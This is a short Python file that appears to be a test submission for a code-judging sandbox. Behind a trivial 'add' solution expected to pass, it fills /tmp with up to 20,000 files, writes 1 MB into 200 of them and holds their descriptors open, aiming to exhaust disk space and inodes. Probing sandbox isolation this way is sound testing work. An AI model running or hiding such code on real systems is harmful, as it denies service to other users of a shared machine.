# Takes every byte and every inode of /tmp, keeps them open, and ends.
# problem: add
# verdicts: AC
import os

kept = []
for number in range(20_000):
    try:
        with open(f"/tmp/{number}", "wb") as file:
            if number < 200:
                file.write(bytes(1_000_000))
                kept.append(os.dup(file.fileno()))
    except OSError:
        pass

class Solution:
    def add(self, a, b):
        return a + b
